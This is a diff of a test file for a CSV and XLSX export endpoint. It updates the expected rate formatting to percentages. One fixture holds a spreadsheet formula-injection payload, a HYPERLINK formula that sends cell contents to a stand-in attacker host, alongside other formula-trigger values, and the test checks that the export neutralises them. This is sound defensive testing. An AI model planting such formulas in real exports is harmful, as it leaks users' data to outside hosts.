@@ -93,7 +93,7 @@ describe('export of an aggregate table on screen', () => {
     const response = await t.request('/api/export?format=csv', jsonBody('POST', tableau));
     expect(response.status).toBe(200);
     expect(response.headers.get('content-disposition')).toBe('attachment; filename="repartition-par-bailleur-2024.csv"');
-    expect(await csvText(response)).toBe('Bailleur;Baux;Taux;Atteint\r\n"Essonne Habitat; OPH";12;0,25;oui\r\nLes Résidences;3;;\r\n');
+    expect(await csvText(response)).toBe('Bailleur;Baux;Taux;Atteint\r\n"Essonne Habitat; OPH";12;25,0%;oui\r\nLes Résidences;3;;\r\n');
   });
 
   it('writes an XLSX with the same rows, rates as percentages', async () => {
@@ -105,16 +105,16 @@ describe('export of an aggregate table on screen', () => {
     expect(sheet.getCell('C2').numFmt).toBe('0.0%');
   });
 
-  it('neutralises formulas in CSV (apostrophe) and keeps negative numbers as numbers', async () => {
+  it('neutralises formulas in CSV (apostrophe) and keeps negative numbers and percentages as numbers', async () => {
     const rows = parseCsv(await csvText(await t.request('/api/export?format=csv', jsonBody('POST', piege))));
     expect(rows).toEqual([
       ['Périmètre', 'Écart', 'Solde'],
-      ['\'=HYPERLINK("http://attaquant.example/?x="&A1,"Cliquez")', '-0,05', '-3'],
-      ["'+33 1 23", '0,1', '4'],
+      ['\'=HYPERLINK("http://attaquant.example/?x="&A1,"Cliquez")', '-5,0%', '-3'],
+      ["'+33 1 23", '10,0%', '4'],
       ["'-2+3", '', '0'],
-      ["'@SUM(A1:A2)", '-1', '-12'],
-      ["'\t=1+1", '0', '1'],
-      ['Évry = Courcouronnes', '0', '1'],
+      ["'@SUM(A1:A2)", '-100,0%', '-12'],
+      ["'\t=1+1", '0,0%', '1'],
+      ['Évry = Courcouronnes', '0,0%', '1'],
     ]);
   });
 
